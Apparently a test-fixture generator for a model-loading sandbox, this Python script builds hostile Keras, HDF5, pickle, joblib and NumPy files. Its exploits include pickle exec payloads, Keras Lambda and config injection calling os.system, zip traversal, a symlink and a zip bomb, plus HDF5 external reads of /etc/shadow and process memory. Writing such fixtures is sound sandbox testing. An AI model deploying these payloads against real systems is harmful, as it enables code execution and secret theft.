"""Makes the hostile models. Needs the keras rootfs, finds this folder and targets.json in /in, and writes to /out:

    aibom run --rootfs keras --in THIS_FOLDER --out FOLDER -- /usr/bin/python3.11 -s -P -B /in/make.py

They are made for each run of the tests and not kept as files: what they carry is the attack as it stands here, the
bytecode is the rootfs's Python's, and the places they attack are this run's.
"""

import base64
import json
import pathlib
import pickle
import zipfile
import zlib

import h5py
import keras
import numpy

HERE, OUT = pathlib.Path("/in"), pathlib.Path("/out")
TARGETS = json.loads((HERE / "targets.json").read_bytes())
FEATURES = 13
BOMB_BYTES = 1100 << 20  # more than strict lets a job keep in /tmp
ENTRIES = ("metadata.json", "config.json", "model.weights.h5")

UNPACK = """
import base64, json, sys, types, zlib
if "attack" not in sys.modules:
    for name, text in json.loads(zlib.decompress(base64.b64decode({packed!r}))).items():
        sys.modules[name] = types.ModuleType(name)
        exec(compile(text, name, "exec"), sys.modules[name].__dict__)
        if name == "attack":
            sys.modules[name].TARGETS.update({targets!r})
    sys.modules["attack"].run({model!r})
"""


def source(model: str) -> str:
    """The attack as one text for exec, which needs no file."""
    texts = {name: (HERE / f"{name}.py").read_text() for name in ("attack", "files", "keys", "reach", "escape")}
    packed = base64.b64encode(zlib.compress(json.dumps(texts).encode())).decode()
    return UNPACK.format(packed=packed, targets=TARGETS, model=model)


class Reduced:
    """CWE-502: what unpickles it calls exec."""

    def __init__(self, model: str):
        self.model = model

    def __reduce__(self):
        return exec, (source(self.model),)


def code_model(model: str) -> keras.Model:
    """CVE-2024-3660: the bytecode of a lambda stands in the configuration, in either format."""
    return compiled([keras.layers.Lambda(eval(f"lambda x: (exec({source(model)!r}), x)[1]"), output_shape=(FEATURES,))])


def eager(config: dict) -> str:
    """Without an output shape in it, loading alone calls the lambda; with one, making the model does not."""
    for layer in config["config"]["layers"]:
        layer["config"].pop("output_shape", None)
    return json.dumps(config)


def lambda_keras() -> None:
    code_model("lambda.keras").save("/tmp/lambda.keras")
    members = entries(pathlib.Path("/tmp/lambda.keras"))
    archive("lambda.keras", members | {"config.json": eager(json.loads(members["config.json"]))})


def lambda_h5() -> None:
    code_model("lambda.h5").save(OUT / "lambda.h5")
    with h5py.File(OUT / "lambda.h5", "r+") as file:
        file.attrs["model_config"] = eager(json.loads(file.attrs["model_config"]))


def compiled(first=()) -> keras.Model:
    model = keras.Sequential([keras.Input((FEATURES,)), *first, keras.layers.Dense(1, activation="sigmoid")], name="m")
    model.compile(optimizer="adam", loss="binary_crossentropy")
    return model


def entries(path: pathlib.Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in ENTRIES}


def archive(name: str, members, method=zipfile.ZIP_STORED) -> None:
    with zipfile.ZipFile(OUT / name, "w", method) as target:
        for member, content in members.items():
            target.writestr(member, content)


def called() -> dict:
    """CVE-2025-1550: the configuration names functions of any module as layers, and the arguments to call them with."""

    def layer(module: str, function: str, argument: str) -> dict:
        return {"module": module, "class_name": "function", "config": function, "registered_name": function,
                "name": function, "inbound_nodes": [{"args": [argument], "kwargs": {}}]}

    inputs = keras.Input((FEATURES,), name="i")
    model = keras.Model(inputs, keras.layers.Dense(1, name="o")(inputs))
    model.compile(optimizer="adam", loss="mse")
    model.save("/tmp/functional.keras")
    good = entries(pathlib.Path("/tmp/functional.keras"))
    config = json.loads(good["config.json"])
    config["config"]["layers"] += [
        layer("os", "system", "echo > /out/shell"), layer("builtins", "exec", source("called.keras"))]
    return good | {"config.json": json.dumps(config)}


def link() -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo("assets")
    entry.external_attr = 0o120777 << 16
    return entry


def outside(path: pathlib.Path, stored: bool = True, linked: bool = True) -> bytes:
    """Weights that lie in other files: HDF5 reads them for whoever reads the dataset."""
    with h5py.File(path, "w") as file:
        for name, target in {"passwd": "/etc/passwd", "shadow": "/etc/shadow", "key": TARGETS["key"],
                             "canary": TARGETS["canary"], "memory": f"/proc/{TARGETS['pid']}/mem"}.items():
            if stored:
                file.create_dataset(f"stored in {name}", (32,), "u1", external=[(target, 0, 32)])
            if linked:
                file[f"linked to {name}"] = h5py.ExternalLink(target, "/")
    return path.read_bytes()


if __name__ == "__main__":
    lambda_keras()
    lambda_h5()
    compiled().save("/tmp/good.keras")
    good = entries(pathlib.Path("/tmp/good.keras"))
    archive("called.keras", called())
    for name in ("reduce.pkl", "reduce.joblib"):  # uncompressed joblib is a pickle
        (OUT / name).write_bytes(pickle.dumps({"weights": numpy.zeros(3), "model": Reduced(name)}))
    numpy.save(OUT / "reduce.npy", numpy.array([Reduced("reduce.npy"), None], dtype=object), allow_pickle=True)

    up = "../" * 8
    archive("traversal.keras", good | {f"{up}{TARGETS['canary'][1:]}": b"x", f"{up}tmp/hostile-climbed": b"x"})
    archive("absolute.keras", good | {TARGETS["canary"]: b"x", "/etc/hostile": b"x", "/in/model.keras": b"x"})
    archive("link.keras", good | {link(): b"/etc/shadow"})
    archive("bomb.keras", good | {"model.weights.h5": bytes(BOMB_BYTES)}, zipfile.ZIP_DEFLATED)
    outside(OUT / "outside.h5")
    for name, options in {"stored.keras": {"linked": False}, "linked.keras": {"stored": False}}.items():
        archive(name, good | {"model.weights.h5": outside(pathlib.Path("/tmp/weights.h5"), **options)})
    archive("inert.keras", good | {"metadata.json": json.dumps(json.loads(good["metadata.json"]) | {"x": source("inert")})})
